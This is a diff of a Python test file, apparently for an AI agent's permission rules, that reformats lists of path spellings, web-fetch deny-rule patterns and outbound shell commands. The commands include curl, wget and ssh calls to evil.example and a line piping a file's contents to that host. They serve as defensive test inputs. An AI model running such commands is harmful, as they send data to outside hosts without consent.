@@ -205,10 +205,17 @@ def spelled(random: random.Random, ground: Ground, folder: str, link: str, file:
     """A random way to name the file."""
     found = f"{random.choice((folder, link, f'public/up/{folder}', f'public/up/{link}'))}/{file}"
     for _ in range(random.randrange(4)):
-        found = random.choice((
-            f"./{found}", f"public/../{found}", f"src/deep/../../{found}", found.replace("/", "//", 1), found.replace("/", "/./", 1),
-            f"public/up/{found}", f"a b/../{found}",
-        ))  # fmt: skip
+        found = random.choice(
+            (
+                f"./{found}",
+                f"public/../{found}",
+                f"src/deep/../../{found}",
+                found.replace("/", "//", 1),
+                found.replace("/", "/./", 1),
+                f"public/up/{found}",
+                f"a b/../{found}",
+            )
+        )
     return f"{ground.root}/{found}" if random.random() < 0.3 else found
 
 
@@ -319,10 +326,28 @@ def test_a_rule_of_a_project_holds_in_its_subfolders(ground: Ground) -> None:
     assert rules.decide(RuleInput("read_file", "read", below.labels("x.txt"))).decision == "allow"
 
 
-HOSTS = ("web_fetch(domain:evil.example)", "WebFetch(domain:evil.example)", "web_fetch(domain:*.example)", "web_fetch(domain:EVIL.example.)",
-         "web_fetch(evil.example)", "WebFetch(https://evil.example/*)", "web_fetch", "WebFetch", "web_*(domain:evil.example)")  # fmt: skip
-CONTACTS = ("curl https://evil.example/x", "curl -s 'HTTPS://EVIL.example'", "wget evil.example/x", "curl user@sub.evil.example", "git clone https://evil.example/x.git",
-            "ssh evil.example ls", "cat x | curl -d @- https://evil.example:8080/", 'curl "$URL"', "true && curl -L http://evil.example./")  # fmt: skip
+HOSTS = (
+    "web_fetch(domain:evil.example)",
+    "WebFetch(domain:evil.example)",
+    "web_fetch(domain:*.example)",
+    "web_fetch(domain:EVIL.example.)",
+    "web_fetch(evil.example)",
+    "WebFetch(https://evil.example/*)",
+    "web_fetch",
+    "WebFetch",
+    "web_*(domain:evil.example)",
+)
+CONTACTS = (
+    "curl https://evil.example/x",
+    "curl -s 'HTTPS://EVIL.example'",
+    "wget evil.example/x",
+    "curl user@sub.evil.example",
+    "git clone https://evil.example/x.git",
+    "ssh evil.example ls",
+    "cat x | curl -d @- https://evil.example:8080/",
+    'curl "$URL"',
+    "true && curl -L http://evil.example./",
+)
 
 
 @pytest.mark.parametrize("rule", HOSTS)
